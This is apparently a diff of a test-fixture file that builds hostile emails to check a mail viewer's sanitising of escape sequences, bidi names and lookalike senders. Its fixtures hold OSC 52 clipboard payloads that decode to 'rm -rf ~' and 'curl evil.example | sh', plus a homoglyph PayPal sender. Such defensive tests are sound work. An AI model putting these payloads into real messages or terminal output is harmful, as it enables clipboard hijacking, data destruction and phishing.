@@ -74,11 +74,11 @@ def message(
         return value if isinstance(value, bytes) else value.encode("utf-8")
 
     lines = [
+        b"Message-ID: " + raw(f"<{name}@hostile.test>" if message_id is None else message_id),
         b"From: " + raw(sender),
         b"To: Robin <robin@example.test>",
         b"Subject: " + raw(name if subject is None else subject),
         b"Date: Mon, 02 Jan 2023 10:00:00 +0000",
-        b"Message-ID: " + raw(f"<{name}@hostile.test>" if message_id is None else message_id),
         b"MIME-Version: 1.0",
     ]
     for header, value in headers:
@@ -275,7 +275,7 @@ def _escape_mime_fields() -> bytes:
     return message(
         "escape-mime-fields",
         b"Body.\n",
-        content_type=b"text/plain; charset=\"\x1b]0;PWNED-TITLE\x07\"; format=\x1b[2J",
+        content_type=b'text/plain; charset="\x1b]0;PWNED-TITLE\x07"; format=\x1b[2J',
         headers=(("Content-Description", b"\x1b]52;c;cm0gLXJmIH4\x07"),),
     )
 
@@ -297,7 +297,7 @@ def _bidi_filename() -> bytes:
 
 
 def _lookalike_sender() -> bytes:
-    # Cyrillic а and о in the name and the address; a Unicode domain.
+    # Cyrillic small a and o in the name and the address; a punycode domain.
     return message(
         "lookalike-sender",
         sender="PаyPаl Suppоrt <service@pаypal.com>",
@@ -733,7 +733,7 @@ CASES: tuple[Case, ...] = (
         "OSC/CSI hidden in encoded words (Subject, From, Cc) and raw in X-Mailer and List-Id "
         "headers: shown as control pictures.",
         _osc_encoded_headers,
-        shows=("␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇encoded", "␛]2;PWNED-TITLE␛\\Name"),
+        shows=("␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇encoded", "␛]2;PWNED-TITLE␛"),
     ),
     Case(
         "csi-body",
@@ -787,7 +787,11 @@ CASES: tuple[Case, ...] = (
         "the controls replaced by _.",
         _escape_filename,
         attachments=3,
-        file_names=("_]0;PWNED-TITLE_evil.txt", "_]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==_clip.txt", "raw_[2Jname.txt"),
+        file_names=(
+            "_]0;PWNED-TITLE_evil.txt",
+            "_]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==_clip.txt",
+            "raw_[2Jname.txt",
+        ),
     ),
     Case(
         "escape-mime-fields",
